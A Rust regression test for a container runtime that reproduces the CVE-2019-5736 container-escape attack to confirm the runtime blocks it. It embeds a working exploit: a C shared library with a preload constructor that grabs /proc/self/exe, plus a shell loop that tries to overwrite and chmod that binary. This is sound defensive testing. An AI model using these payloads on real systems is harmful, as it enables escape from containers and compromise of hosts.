//! Entering and starting: what comes into a container from outside, and what it brings along.

use std::path::{Path, PathBuf};
use std::process::Command;

use berth_tests::{Host, World, world::binary};

/// Compiles a program of C, and returns its path.
fn compile(directory: &Path, name: &str, source: &str, flags: &[&str]) -> PathBuf {
    let (text, program) = (directory.join(format!("{name}.c")), directory.join(name));
    std::fs::write(&text, source).expect("written");
    let compiled = Command::new("cc").args(["-O1", "-o"]).arg(&program).arg(&text).args(flags).status().expect("cc");
    assert!(compiled.success(), "{name}.c doesn't compile");
    program
}

/// A host whose programs are copies, to be attacked.
fn host_of_copies(world: &mut World) -> (Host, PathBuf) {
    let mut host = world.host();
    let directory = host.directory().join("bin");
    std::fs::create_dir(&directory).expect("made");
    for name in ["netd", "berth-shim", "berth-monitor"] {
        std::fs::copy(binary(name), directory.join(name)).expect("copied");
    }
    host.berthd_flag("--bin-dir").berthd_flag(directory.to_string_lossy()).start();
    (host, directory)
}

/// Loaded into whatever executes it, it keeps that program open and becomes a shell.
const KEEPS_THE_PROGRAM: &str = r#"
#include <fcntl.h>
#include <unistd.h>
__attribute__((constructor)) static void attack(void) {
    char *environment[] = { "PATH=/bin", 0 };
    dup2(open("/proc/self/exe", O_RDONLY), 9);
    execle("/bin/sh", "sh", "/attack/change", (char *)0, environment);
}
"#;

/// What that shell does: it writes to the program as soon as nobody runs it, and takes its mode away.
const CHANGES_THE_PROGRAM: &str = r#"
for attempt in $(seq 500); do
    message=$( (echo attacked >> /proc/self/fd/9) 2>&1 ) && { echo overwritten; break; }
    case $message in *busy*) usleep 2000 ;; *) echo "${message##*: }"; break ;; esac
done
chmod 0 /proc/self/fd/9 2>&1 && echo 'mode changed'
exit 0
"#;

/// CVE-2019-5736: the program that enters a container, executed there with the container's own libraries, opens itself
/// and writes the file that the next start would run.
#[test]
fn the_program_that_enters_cannot_be_overwritten() {
    let mut world = World::new();
    let (host, programs) = host_of_copies(&mut world);
    let attack = host.directory().join("attack");
    std::fs::create_dir(&attack).expect("made");
    compile(&attack, "attack.so", KEEPS_THE_PROGRAM, &["-shared", "-fPIC"]);
    std::fs::write(attack.join("change"), CHANGES_THE_PROGRAM).expect("written");
    let attack = format!("{}:/attack:ro", attack.display());
    // The libraries that it needs, as an image of the attacker's would have them.
    let mut flags = vec!["-e", "LD_PRELOAD=/attack/attack.so", "-v", attack.as_str()];
    let libraries = ["/lib", "/lib64", "/usr/lib"].map(|path| format!("{path}:{path}:ro"));
    let there = libraries.iter().filter(|library| Path::new(library.split(':').next().expect("a path")).exists());
    flags.extend(there.flat_map(|library| ["-v", library.as_str()]));

    let refused = |outcome: berth_tests::Outcome, how: &str| {
        let said = outcome.ok();
        let lines: Vec<&str> = said.lines().collect();
        assert_eq!(lines, ["Read-only file system", "chmod: /proc/self/fd/9: Read-only file system"], "{how}");
    };
    refused(host.docker(&[&["run", "--rm"], &*flags, &["busybox", "/proc/self/exe"]].concat()), "run");
    host.docker(&[&["run", "-d", "--name", "box"], &flags[2..], &["busybox", "sleep", "1000"]].concat()).ok();
    refused(host.docker(&[&["exec"], &flags[..2], &["box", "/proc/self/exe"]].concat()), "exec");
    let unprivileged = ["exec", "-u", "1000", flags[0], flags[1], "box", "/proc/self/exe"];
    assert!(!host.docker(&unprivileged).ok().contains("overwritten"));
    refused(
        host.docker(&[&["run", "--rm", "--privileged"], &*flags, &["busybox", "/proc/self/exe"]].concat()),
        "run --privileged",
    );

    for name in ["berth-shim", "berth-monitor"] {
        let (now, before) = (std::fs::read(programs.join(name)), std::fs::read(binary(name)));
        assert!(now.expect("there") == before.expect("there"), "{name} was changed");
    }
    assert_eq!(host.docker(&["run", "--rm", "busybox", "echo", "still"]).ok(), "still");
}
